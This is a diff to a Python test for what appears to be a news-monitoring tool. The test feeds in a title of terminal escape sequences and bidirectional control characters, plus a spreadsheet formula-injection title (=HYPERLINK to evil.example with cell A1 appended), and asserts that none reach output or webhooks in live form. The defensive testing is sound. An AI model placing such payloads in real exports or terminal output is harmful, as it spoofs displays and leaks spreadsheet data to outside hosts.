@@ -371,6 +371,7 @@ def test_a_secret_in_a_source_url_is_never_shown_or_stored(tmp_path, site, recei
 
 
 ESC_TITLE = "\x1b]0;owned\x07\x1b[2J\x1b[31m利率上限通知\u202e \x9b31m C1 \u2067@all 点击\u2069 \u061c"
+OTHER = "<p>最高人民法院明确，民间借贷利率的司法保护上限为合同成立时一年期贷款市场报价利率的四倍，超过部分的利息不予支持。</p>"
 LIVE = ("\x1b", "\x07", "\x9b", "\u202e", "\u2067", "\u2069", "\u061c")      # none may reach output as itself
 
 
@@ -392,10 +393,10 @@ items = "data"\nlink = "url"\ntitle = "title"\nbody = "body"
 """, encoding="utf-8")
     assert rw("baseline", "-c", cfg).returncode == 0
     api([{"url": f"{site.url}/a/1", "title": ESC_TITLE, "body": body},
-         {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": body + "<p>二</p>"}])
+         {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": OTHER}])
     assert rw("run", "--once", "-c", cfg).returncode == 0
     events = [json.dumps(m["body"], ensure_ascii=False) for m in receiver.messages]   # the webhook's data too
-    assert events and not any(c in e for e in events for c in LIVE)     # (the second joins the first one's story)
+    assert len(events) == 2 and not any(c in e for e in events for c in LIVE)     # two stories, either first
     assert any("利率上限通知" in e for e in events)
 
     for args in (["search", "利率"], ["alerts"], ["sources"], ["search", "利率", "--json"], ["export"],
